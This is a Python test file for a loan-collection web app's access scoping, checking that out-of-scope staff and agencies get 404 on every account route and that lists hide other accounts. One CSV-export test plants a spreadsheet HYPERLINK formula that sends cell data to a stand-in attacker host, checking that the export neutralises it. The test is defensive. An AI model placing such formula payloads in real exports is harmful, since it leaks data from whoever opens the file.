"""Scope on every route that shows or changes an account's data (issue 11, finding 6).

:func:`test_every_account_route_answers_404_out_of_scope` walks the app's router: every
route whose path takes a loan, case, plan, promise, attempt, complaint, hold (a dispute),
dispute evidence or plan approval id is called with the id of a real record on an account
outside the caller's scope, by

- a bucket-scoped user (scope M1) of each staff role, and
- an agency agent whose agency the account is not placed with,

and must answer 404 and write nothing. Each is paired with a "twin" of the same role for
whom the account *is* in scope (the unscoped user; an agency the account is placed with):
the twin's answer to the same request must not be 404 (so the id is real and the 404
comes from the scope); where the twin gets 403 (the role lacks the permission, or the
purpose is beyond it) the scoped user gets 403 or 404. A route no twin could reach
fails the test, and so does a new route with an id in its path that is neither walked
nor listed as not an account's: a future route without the scope check, or without an
example request here, fails.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from fastapi.routing import iter_route_contexts
from sqlalchemy import func, insert, select, update
from tests.web.conftest import AS_OF, SETUP_TIME, TEST_KEY

from forbear.domain.legal.proof import s10_check_digit
from forbear.services import assistant, contacts, holds, staff
from forbear.store.audit import AuditEvent
from forbear.store.crypto import Contexts, PiiVault
from forbear.store.legal import LegalCase, LegalQueueEntry
from forbear.store.models import AccountState, Borrower, Loan
from forbear.store.runs import OutboxMessage

ACCOUNT_IDS = {
    "loan_id",
    "case_id",
    "plan_id",
    "promise_id",
    "attempt_id",
    "complaint_id",
    "message_id",  # an outbox message (the outbox and sent-messages pages)
    "conversation_id",  # a conversation with the assistant, handed to agents (issue 14)
    "hold_id",  # a hold on a loan's borrower: here a dispute (issue 15, item 1)
    "evidence_id",  # a file the borrower attached to their dispute
    "approval_id",  # a plan submitted for a supervisor's decision (issue 15, item 2)
}
# Routes with an id in the path that are not about one account of the book, or that are
# the borrower's own (a borrower session; each borrower reaches only their own loans,
# tests/web/test_portal_api.py and test_portal_pages.py).
NOT_STAFF_ACCOUNT_ROUTES = {
    "/api/v1/runs/{run_id}",
    "/api/v1/education/articles/{slug}",
    "/portal/learn/{slug}",
    # signed provider callbacks: machine to machine, no staff (tests/web/test_channel_callbacks.py)
    "/api/v1/channels/{provider}/receipts",
    "/api/v1/channels/{provider}/replies",
    "/api/v1/channels/{provider}/payments",
    # a reply belongs to a borrower, not a loan: its scope is tested in test_reply_inbox.py
    "/replies/{reply_id}/handled",
    # the borrower's own conversation (portal session or the lender's signed app):
    # tests/web/assistant/test_api.py
    "/api/v1/assistant/conversations/{conversation_id}",
    # an experiment of the strategy in force: a readout over the whole book, no one
    # account's (who may read and promote: tests/web/test_experiments_pages.py)
    "/api/v1/experiments/{experiment_id}/readout",
    "/api/v1/experiments/{experiment_id}/promote",
    "/experiments/{experiment_id}",
    "/experiments/{experiment_id}/promote",
}
BORROWER_SIDE = ("/api/v1/portal/", "/portal/")
# (scoped user, twin who sees the account): same role
PAIRS = [
    ("agent.m1", "agent1"),
    ("super.m1", "super1"),
    ("compliance.m1", "compliance1"),
    ("legal.m1", "legal1"),
    ("agency1", "agency2"),
]
PROMISED_ON = (AS_OF + timedelta(days=3)).isoformat()
# proof of delivery of a demand letter: a UPU S10 postal item number with its check digit
TRACKING = f"EA12345678{s10_check_digit('12345678')}CN"
# a settlement discount of 19%: beyond an agent (10-15%), within a supervisor (20-30%)
BEYOND = {"plan_type": "settlement", "discount_pct": 19}
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
# An example request per walked route: valid for the route's schema, so that only the
# scope can refuse it. A new route needs one here.
EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
    # the outbox and the sent-messages page (issue 13)
    ("POST", "/api/v1/outbox/{message_id}/retry"): {},
    ("POST", "/api/v1/outbox/{message_id}/cancel"): {},
    ("POST", "/sent/{message_id}/retry"): {"data": {}},
    ("POST", "/sent/{message_id}/cancel"): {"data": {}},
    # sending from the workbench (issue 13)
    ("POST", "/api/v1/outreach/loans/{loan_id}/preview"): {
        "json": {"channel": "sms", "template": "CN.M1.REMIND.SMS"}
    },
    ("POST", "/api/v1/outreach/loans/{loan_id}/messages"): {
        "json": {"channel": "sms", "template": "CN.M1.REMIND.SMS", "request_id": "scope-walk-0001"}
    },
    ("POST", "/accounts/{loan_id}/compose"): {
        "data": {"choice": "sms:template:CN.M1.REMIND.SMS", "request_id": "scope-walk-0002"}
    },
    ("POST", "/api/v1/accounts/{loan_id}/unmask"): {
        "json": {"field": "mobile", "purpose": "contact"}
    },
    ("POST", "/api/v1/accounts/{loan_id}/contacts"): {"json": {"channel": "call"}},
    ("POST", "/api/v1/contacts/{attempt_id}/outcome"): {"json": {"outcome": "no_answer"}},
    ("POST", "/api/v1/accounts/{loan_id}/promises"): {
        "json": {"amount_fen": 10_000, "promised_on": PROMISED_ON}
    },
    ("POST", "/api/v1/promises/{promise_id}/cancel"): {"json": {"reason": "测试"}},
    ("POST", "/api/v1/accounts/{loan_id}/plans/quote"): {
        "json": {"plan_type": "deferral", "months": 1}
    },
    ("POST", "/api/v1/accounts/{loan_id}/plans"): {"json": {"plan_type": "deferral", "months": 1}},
    ("POST", "/api/v1/plans/{plan_id}/accept"): {},
    ("POST", "/api/v1/plans/{plan_id}/cancel"): {"json": {"reason": "测试"}},
    # plans beyond an agent's authority, for a supervisor's decision (issue 15, item 2)
    ("POST", "/api/v1/accounts/{loan_id}/plans/submit"): {
        "json": {**BEYOND, "reason": "一次性还清"}
    },
    ("POST", "/api/v1/approvals/{approval_id}/decide"): {
        "json": {"decision": "refuse", "reason": "材料不足"}
    },
    ("POST", "/api/v1/legal/cases/{case_id}/advance"): {
        "json": {"to": "demand_letter", "tracking_number": TRACKING}
    },
    ("POST", "/api/v1/legal/cases/{case_id}/costs"): {
        "json": {"kind": "court_fee", "amount": "100.00"}
    },
    ("POST", "/api/v1/complaints/{complaint_id}/start"): {},
    ("POST", "/api/v1/complaints/{complaint_id}/extend"): {"json": {"reason": "需调取录音"}},
    ("POST", "/api/v1/complaints/{complaint_id}/approve"): {},
    ("POST", "/api/v1/complaints/{complaint_id}/resolve"): {
        "json": {"resolution": "已核实", "root_cause": "contact_rules"}
    },
    ("POST", "/api/v1/complaints/{complaint_id}/close"): {},
    ("POST", "/accounts/{loan_id}/contact"): {"data": {"channel": "call"}},
    ("POST", "/accounts/{loan_id}/attempts/{attempt_id}/outcome"): {
        "data": {"outcome": "no_answer"}
    },
    ("POST", "/accounts/{loan_id}/unmask"): {"data": {"field": "mobile", "purpose": "contact"}},
    # the workbench (issue 15): notes, callbacks (a status refused after the scope check)
    ("POST", "/accounts/{loan_id}/notes"): {"data": {"note": "测试备注"}},
    ("POST", "/accounts/{loan_id}/callbacks"): {"data": {"callback_at": "2026-11-21T10:00"}},
    ("POST", "/accounts/{loan_id}/callbacks/close"): {
        "data": {"callback_id": "1", "status": "open"}
    },
    ("POST", "/accounts/{loan_id}/promises"): {
        "data": {"amount_yuan": "100", "promised_on": PROMISED_ON}
    },
    ("POST", "/promises/{promise_id}/cancel"): {},
    ("POST", "/accounts/{loan_id}/plans/quote"): {"data": {"plan_type": "deferral", "months": "1"}},
    ("POST", "/accounts/{loan_id}/plans"): {"data": {"plan_type": "deferral", "months": "1"}},
    ("POST", "/accounts/{loan_id}/plans/submit"): {
        "data": {"plan_type": "settlement", "discount_pct": "19", "reason": "一次性还清"}
    },
    ("POST", "/approvals/{approval_id}/decide"): {
        "data": {
            "plan_type": "settlement",
            "discount_pct": "19",
            "decision": "refuse",
            "reason": "材料不足",
        }
    },
    ("POST", "/plans/{plan_id}/accept"): {},
    ("POST", "/plans/{plan_id}/cancel"): {},
    ("POST", "/legal/cases/{case_id}/advance"): {
        "data": {"to": "demand_letter", "proof_kind": "tracking", "tracking_number": TRACKING}
    },
    ("POST", "/legal/cases/{case_id}/costs"): {"data": {"kind": "court_fee", "amount": "100.00"}},
    ("POST", "/compliance/complaints/{complaint_id}/survey"): {"data": {"score": "4"}},
    ("POST", "/compliance/complaints/{complaint_id}/{action}"): {"data": {}},
    # the agents' handoff pages of the assistant (issue 14)
    ("POST", "/assistant/conversations/{conversation_id}/take-over"): {"data": {}},
    ("POST", "/assistant/conversations/{conversation_id}/reply"): {"data": {"text": "您好"}},
    ("POST", "/assistant/conversations/{conversation_id}/release"): {"data": {}},
    ("POST", "/assistant/conversations/{conversation_id}/close"): {"data": {}},
    # the holds-and-disputes desk (issue 15, item 1): a dispute taken, given to an owner,
    # verified, answered and released by the twin (a later step may then be a conflict)
    ("POST", "/holds/{hold_id}/take"): {"data": {}},
    ("POST", "/holds/{hold_id}/assign"): {"data": {"owner": "super1"}},
    ("POST", "/holds/{hold_id}/verify"): {"data": {}},
    ("POST", "/holds/{hold_id}/answer"): {"data": {"answer": "已核实还款记录，金额无误"}},
    ("POST", "/holds/{hold_id}/release"): {
        "data": {"reason": "借款人提供了还款凭证，异议成立", "resolution": "upheld"}
    },
}
OTHER_PARAMS = {"name": "case-{case_id}-parties.csv", "action": "start"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EVIL_ADDRESS = "@SUM(1+1)北京市朝阳区"


@dataclass
class Targets:
    """Real records on accounts outside the scoped users' scope."""

    ids: dict[str, int]
    loans: set[int]
    attempt_loan: int  # the loan of ids["attempt_id"]
    queued_loan: int  # a loan in the legal review queue (the confirm step before a case)


def walked_routes(app) -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
    walked, unclassified = [], []
    for route in iter_route_contexts(app.routes):
        params = set(re.findall(r"{(\w+)}", route.path))
        if not params:
            continue
        if route.path.startswith(BORROWER_SIDE) or route.path in NOT_STAFF_ACCOUNT_ROUTES:
            continue
        if not params & ACCOUNT_IDS:
            unclassified.append(route.path)
            continue
        for method in sorted(route.methods or ()):
            if method != "HEAD":
                walked.append((method, route.path))
    assert not unclassified, f"routes with ids to classify in this test: {unclassified}"
    return walked


def _bucket(db, loan: int) -> str:  # type: ignore[no-untyped-def]
    return str(
        db.conn.execute(
            select(AccountState.bucket).where(
                AccountState.loan_id == loan, AccountState.as_of == AS_OF
            )
        ).scalar_one()
    )


def _add_scoped_staff(db) -> None:  # type: ignore[no-untyped-def]
    for username, role in (
        ("super.m1", "supervisor"),
        ("compliance.m1", "compliance_officer"),
        ("legal.m1", "legal"),
    ):
        staff.add_staff(
            db.conn,
            username=username,
            display_name=f"测试 {username}",
            role=role,
            actor="test",
            now=SETUP_TIME,
            scope_buckets=["M1"],
        )


def _first(candidates: list[int], attempt) -> tuple[int, Any]:  # type: ignore[no-untyped-def]
    for loan in candidates:
        answer = attempt(loan)
        if answer.status_code in (200, 201):
            return loan, answer.json()
    raise AssertionError("no loan of the book takes this request")


def make_targets(sign_in, book, db) -> Targets:  # type: ignore[no-untyped-def]
    _add_scoped_staff(db)
    out_of_m1 = [
        loan
        for loan in [book.other_loan, book.m2_plus_loan, *book.loans]
        if loan != book.placed_loan and _bucket(db, loan) != "M1"
    ]
    agent = sign_in("agent1")
    loan, _ = _first(
        out_of_m1[:100],
        lambda n: agent.post(f"/api/v1/accounts/{n}/promises", json=EXAMPLES[
            ("POST", "/api/v1/accounts/{loan_id}/promises")]["json"]),
    )  # fmt: skip
    promise = agent.get(f"/api/v1/accounts/{loan}/promises").json()["items"][0]["promise_id"]
    plan_loan, plan = _first(
        [n for n in out_of_m1[:200] if n != loan],
        lambda n: sign_in("super1").post(
            f"/api/v1/accounts/{n}/plans", json={"plan_type": "deferral", "months": 1}
        ),
    )
    attempt_loan, attempt = _allowed_attempt(sign_in("agent1"), out_of_m1[:200])
    complaint = sign_in("agent1").post(
        "/api/v1/complaints",
        json={"loan_id": loan, "category": "harassment", "description": "晚上十点后仍来电"},
    )
    assert complaint.status_code == 201, complaint.text
    case_loan, case = _legal_case(sign_in, db, set(out_of_m1))
    taken = {loan, plan_loan, attempt_loan, case_loan}
    approval_loan, approval = _first(
        [n for n in out_of_m1[:200] if n not in taken],
        lambda n: sign_in("agent1").post(
            f"/api/v1/accounts/{n}/plans/submit", json={**BEYOND, "reason": "一次性还清"}
        ),
    )
    taken.add(approval_loan)
    hold_loan = next(n for n in out_of_m1 if n not in taken)
    hold, evidence = _dispute_with_evidence(db, hold_loan)
    queued_loan = _queued(db, set(out_of_m1) - taken - {hold_loan})
    loans = taken | {hold_loan, queued_loan}
    for placed in loans:  # the agency twin's agency holds every target account
        contacts.notify_agency(db.conn, loan_id=placed, agency_id=8, at=SETUP_TIME, actor="test")
        contacts.assign_agency(db.conn, loan_id=placed, agency_id=8, at=SETUP_TIME, actor="test")
    message = _dead_message(db, loan)
    return Targets(
        ids={
            "conversation_id": _waiting_conversation(db, loan),
            "message_id": message,
            "loan_id": loan,
            "promise_id": int(promise),
            "plan_id": int(plan["plan_id"]),
            "attempt_id": attempt,
            "complaint_id": int(complaint.json()["id"]),
            "case_id": case,
            "approval_id": int(approval["approval_id"]),
            "hold_id": hold,
            "evidence_id": evidence,
        },
        loans=loans,
        attempt_loan=attempt_loan,
        queued_loan=queued_loan,
    )


def _queued(db, allowed: set[int]) -> int:  # type: ignore[no-untyped-def]
    """A loan out of M1 waiting in the legal review queue (no case opened for it)."""
    queued = db.conn.execute(
        select(LegalQueueEntry.loan_id)
        .where(LegalQueueEntry.status == "queued")
        .order_by(LegalQueueEntry.id)
    ).scalars()
    return int(next(n for n in queued if n in allowed))


def _dispute_with_evidence(db, loan: int) -> tuple[int, int]:  # type: ignore[no-untyped-def]
    """A dispute on ``loan`` (as the portal opens one) with a file its borrower attached."""
    hold = contacts.add_hold(
        db.conn,
        loan_id=loan,
        kind="dispute",
        actor="test",
        since=SETUP_TIME,
        reason="portal dispute: amount_wrong",
    )
    borrower = db.conn.execute(select(Loan.borrower_id).where(Loan.id == loan)).scalar_one()
    evidence = holds.add_evidence(
        db.conn,
        db.vault,
        db.settings.data_dir,
        borrower_id=int(borrower),
        hold_id=hold,
        filename="还款凭证.png",
        data=PNG,
        now=SETUP_TIME,
    )
    return hold, evidence


def _waiting_conversation(db, loan: int) -> int:  # type: ignore[no-untyped-def]
    """A portal conversation of ``loan``'s borrower handed over to the agents."""
    borrower = db.conn.execute(select(Loan.borrower_id).where(Loan.id == loan)).scalar_one()
    vault = PiiVault(TEST_KEY)
    talk = assistant.open_conversation(
        db.conn, vault, channel="portal", now=SETUP_TIME, borrower_id=int(borrower)
    )
    assistant.record_turn(db.conn, vault, talk, role="borrower", text="我要找人工", now=SETUP_TIME)
    assistant.hand_over(db.conn, talk, reason="asked", now=SETUP_TIME)
    return talk.id


def _dead_message(db, loan: int) -> int:  # type: ignore[no-untyped-def]
    """A message of ``loan`` the dispatcher gave up on (retryable, then cancellable)."""
    borrower = db.conn.execute(select(Loan.borrower_id).where(Loan.id == loan)).scalar_one()
    return int(
        db.conn.execute(
            insert(OutboxMessage)
            .values(
                as_of=AS_OF,
                loan_id=loan,
                borrower_id=borrower,
                action_index=0,
                channel="sms",
                template="CN.M1.REMIND.SMS",
                dedupe_key="scope-walk-" + "0" * 53,
                status="dead",
                created_at=SETUP_TIME,
                due_at=SETUP_TIME,
                next_attempt_at=SETUP_TIME,
                tries=5,
            )
            .returning(OutboxMessage.id)
        ).scalar_one()
    )


def _allowed_attempt(agent, candidates: list[int]) -> tuple[int, int]:  # type: ignore[no-untyped-def]
    for loan in candidates:
        answer = agent.post(f"/api/v1/accounts/{loan}/contacts", json={"channel": "call"})
        if answer.status_code == 201 and answer.json()["allowed"]:
            return loan, int(answer.json()["attempt_id"])
    raise AssertionError("no loan of the book may be called now")


def _legal_case(sign_in, db, allowed: set[int]) -> tuple[int, int]:  # type: ignore[no-untyped-def]
    """An open legal case on an account out of M1 (opened from the queue if none is)."""
    found = db.conn.execute(
        select(LegalCase.loan_id, LegalCase.id)
        .where(LegalCase.stage.in_(["review", "demand_letter", "filed"]))
        .order_by(LegalCase.id)
    ).all()
    for loan, case in found:
        if loan in allowed:
            return int(loan), int(case)
    queued = db.conn.execute(
        select(LegalQueueEntry.loan_id)
        .where(LegalQueueEntry.status == "queued")
        .order_by(LegalQueueEntry.id)
    ).scalars()
    lawyer = sign_in("legal1")
    for loan in queued:
        if loan in allowed:
            opened = lawyer.post("/api/v1/legal/cases", json={"loan_id": loan})
            if opened.status_code == 201:
                return int(loan), int(opened.json()["case_id"])
    raise AssertionError("no legal case out of M1 to test with")


class Users:
    """One session per user, switched on the one test client."""

    def __init__(self, client, sign_in) -> None:  # type: ignore[no-untyped-def]
        self.client = client
        self.sign_in = sign_in
        self.sessions: dict[str, tuple[str, str]] = {}

    def as_(self, username: str):  # type: ignore[no-untyped-def]
        from forbear.web.deps import SESSION_COOKIE

        if username not in self.sessions:
            signed = self.sign_in(username)
            self.sessions[username] = (
                signed.cookies[SESSION_COOKIE],
                signed.headers["X-CSRF-Token"],
            )
        cookie, csrf = self.sessions[username]
        self.client.cookies.set(SESSION_COOKIE, cookie)
        self.client.headers["X-CSRF-Token"] = csrf
        return self.client


def audit_count(db) -> int:  # type: ignore[no-untyped-def]
    return int(db.conn.execute(select(func.count()).select_from(AuditEvent)).scalar_one())


def test_every_account_route_answers_404_out_of_scope(client, sign_in, book, db, app) -> None:
    targets = make_targets(sign_in, book, db)
    users = Users(client, sign_in)
    routes = walked_routes(app)
    assert len(routes) >= 30, routes
    problems: list[str] = []
    for method, path in routes:
        example = EXAMPLES.get((method, path), {} if method == "GET" else None)
        assert example is not None, f"add an example request for {method} {path}"
        values = {k: str(v) for k, v in targets.ids.items()}
        if "{attempt_id}" in path:  # the attempt's own loan
            values["loan_id"] = str(targets.attempt_loan)
        if path == "/legal/queue/{loan_id}/open":  # the confirm step: a loan still queued
            values["loan_id"] = str(targets.queued_loan)
        values |= {k: v.format(**values) for k, v in OTHER_PARAMS.items()}
        url = path.format(**{p: values[p] for p in re.findall(r"{(\w+)}", path)})
        reached = False
        for scoped, twin in PAIRS:
            before = audit_count(db)
            mine = users.as_(scoped).request(method, url, follow_redirects=False, **example)
            wrote = audit_count(db) - before
            theirs = users.as_(twin).request(method, url, follow_redirects=False, **example)
            if theirs.status_code == 404:
                problems.append(f"{method} {url}: the twin {twin} got 404: {theirs.text[:200]}")
                continue
            # a twin's 403 may come before the scope check (the role lacks the permission)
            # or after it (the purpose or the amount is beyond the role): the scoped user
            # then gets 403 or 404, both of which show nothing
            expected = {403, 404} if theirs.status_code == 403 else {404}
            reached = reached or theirs.status_code != 403
            if mine.status_code not in expected or wrote:
                problems.append(
                    f"{method} {path} as {scoped}: {mine.status_code} (wanted "
                    f"{sorted(expected)}, twin {twin} got {theirs.status_code}), "
                    f"{wrote} audit event(s) written"
                )
        if not reached:
            problems.append(f"{method} {path}: no twin reached it (every role got 403)")
    assert not problems, "\n".join(problems)


# ------------------------------------------------------------------ lists and documents


def _legal_lists(c) -> tuple[set[int], set[int], set[int]]:  # type: ignore[no-untyped-def]
    return (
        {i["loan_id"] for i in c.get("/api/v1/legal/queue").json()["items"]},
        {i["loan_id"] for i in c.get("/api/v1/legal/cases").json()["items"]},
        {
            i["loan_id"]
            for i in c.get("/api/v1/legal/limitation", params={"within": 3650}).json()["items"]
        },
    )


def test_legal_lists_show_only_accounts_in_scope(client, sign_in, book, db) -> None:
    _add_scoped_staff(db)
    everything = _legal_lists(sign_in("legal1"))
    assert all(everything), "the test book has queued accounts, cases and limitation dates"
    m1 = set(
        db.conn.execute(
            select(AccountState.loan_id).where(
                AccountState.as_of == AS_OF, AccountState.bucket == "M1"
            )
        ).scalars()
    )
    scoped = _legal_lists(sign_in("legal.m1"))
    for all_of, seen in zip(everything, scoped, strict=True):
        assert seen == all_of & m1
    assert any(all_of - m1 for all_of in everything)  # something was hidden
    page = sign_in("legal.m1").get("/legal")
    assert page.status_code == 200
    hidden = sorted(everything[0] - m1)
    refs = db.conn.execute(select(Loan.external_ref).where(Loan.id.in_(hidden[:20]))).scalars()
    assert not [r for r in refs if r in page.text]
    counts = sign_in("legal.m1").get("/api/v1/legal/cases").json()["counts"]
    assert sum(counts.values()) == len(everything[1] & m1)


def test_a_scoped_lawyer_cannot_open_a_case_out_of_scope(client, sign_in, book, db) -> None:
    _add_scoped_staff(db)
    queued = [
        int(loan)
        for loan in db.conn.execute(
            select(LegalQueueEntry.loan_id).where(LegalQueueEntry.status == "queued")
        ).scalars()
        if _bucket(db, int(loan)) != "M1"
    ]
    assert queued
    before = audit_count(db)
    answer = sign_in("legal.m1").post("/api/v1/legal/cases", json={"loan_id": queued[0]})
    assert answer.status_code == 404
    page = sign_in("legal.m1").post(
        "/legal/cases", data={"loan_id": str(queued[0])}, follow_redirects=False
    )
    assert page.status_code == 404
    assert audit_count(db) == before


def test_parties_csv_for_the_lawyer_in_scope_is_formula_safe(client, sign_in, book, db) -> None:
    """The finding's file, downloaded by a lawyer who may: the imported name and address
    that start a formula come out as text (issue 11, finding 5), the legal note too."""
    _add_scoped_staff(db)
    out_of_m1 = [n for n in book.loans if _bucket(db, n) != "M1"]
    loan, case = _legal_case(sign_in, db, set(out_of_m1))
    vault = PiiVault(TEST_KEY)
    borrower = db.conn.execute(select(Loan.borrower_id).where(Loan.id == loan)).scalar_one()
    db.conn.execute(
        update(Borrower)
        .where(Borrower.id == borrower)
        .values(
            name_enc=vault.encrypt(EVIL_NAME, context=Contexts.BORROWER_NAME),
            address_enc=vault.encrypt(EVIL_ADDRESS, context=Contexts.BORROWER_ADDRESS),
        )
    )
    lawyer = sign_in("legal1")
    advanced = lawyer.post(
        f"/api/v1/legal/cases/{case}/advance",
        json={"to": "demand_letter", "notes": "-1+1 备注", "tracking_number": TRACKING},
    )
    assert advanced.status_code in (200, 409), advanced.text
    url = f"/api/v1/legal/cases/{case}/documents/case-{case}-parties.csv"
    assert sign_in("legal.m1").get(url).status_code == 404
    answer = sign_in("legal1").get(url)
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    debtor = next(r for r in rows if r["role"] == "Debtor")
    assert debtor["name"] == "'" + EVIL_NAME
    assert debtor["address"] == "'" + EVIL_ADDRESS
    events = sign_in("legal1").get(
        f"/api/v1/legal/cases/{case}/documents/case-{case}-case_events.csv"
    )
    notes = [r["notes"] for r in csv.DictReader(io.StringIO(events.content.decode("utf-8-sig")))]
    if advanced.status_code == 200:
        assert "'-1+1 备注" in notes
    amounts = sign_in("legal1").get(f"/api/v1/legal/cases/{case}/documents/case-{case}-amounts.csv")
    for row in csv.DictReader(io.StringIO(amounts.content.decode("utf-8-sig"))):
        assert not row["amount_fen"].startswith("'") and not row["amount_yuan"].startswith("'")


def _m1(db) -> set[int]:  # type: ignore[no-untyped-def]
    return set(
        db.conn.execute(
            select(AccountState.loan_id).where(
                AccountState.as_of == AS_OF, AccountState.bucket == "M1"
            )
        ).scalars()
    )


def _ref(db, loan: int) -> str:  # type: ignore[no-untyped-def]
    return str(db.conn.execute(select(Loan.external_ref).where(Loan.id == loan)).scalar_one())


def test_the_case_library_shows_only_accounts_in_scope(client, sign_in, book, db) -> None:
    _add_scoped_staff(db)
    m1 = _m1(db)
    inside = next(n for n in book.loans if n in m1)
    outside = next(n for n in book.loans if n not in m1)
    for loan in (inside, outside):
        added = sign_in("compliance1").post(
            "/api/v1/cases",
            json={"loan_id": loan, "outcome": "success", "category": "plan", "lesson": "分期有效"},
        )
        assert added.status_code == 201, added.text
    assert {i["loan_id"] for i in sign_in("compliance1").get("/api/v1/cases").json()["items"]} >= {
        inside,
        outside,
    }
    scoped = {i["loan_id"] for i in sign_in("compliance.m1").get("/api/v1/cases").json()["items"]}
    assert inside in scoped and outside not in scoped and scoped <= m1
    page = sign_in("compliance.m1").get("/compliance/cases")
    assert page.status_code == 200
    assert _ref(db, inside) in page.text and _ref(db, outside) not in page.text


def test_the_blocked_contacts_drill_down_shows_only_accounts_in_scope(
    client, sign_in, book, db, clock
) -> None:
    _add_scoped_staff(db)
    m1 = _m1(db)
    inside = next(n for n in book.loans if n in m1)
    outside = next(n for n in book.loans if n not in m1 and n != book.placed_loan)
    morning = clock.now
    clock.now = datetime(2026, 11, 20, 14, 30, tzinfo=UTC)  # 22:30 in Shanghai: quiet hours
    rules: set[str] = set()
    for loan in (inside, outside):
        answer = sign_in("agent1").post(
            f"/api/v1/accounts/{loan}/contacts", json={"channel": "call"}
        )
        assert answer.status_code == 201 and not answer.json()["allowed"], answer.text
        rules |= set(answer.json()["blocked_by"])
    clock.now = morning
    rule = sorted(rules)[0]
    params = {"rule": rule, "start": AS_OF.isoformat(), "end": AS_OF.isoformat()}
    everything = sign_in("compliance1").get("/compliance/blocked", params=params)
    scoped = sign_in("compliance.m1").get("/compliance/blocked", params=params)
    assert everything.status_code == scoped.status_code == 200
    assert _ref(db, outside) in everything.text and _ref(db, inside) in everything.text
    assert _ref(db, outside) not in scoped.text and _ref(db, inside) in scoped.text
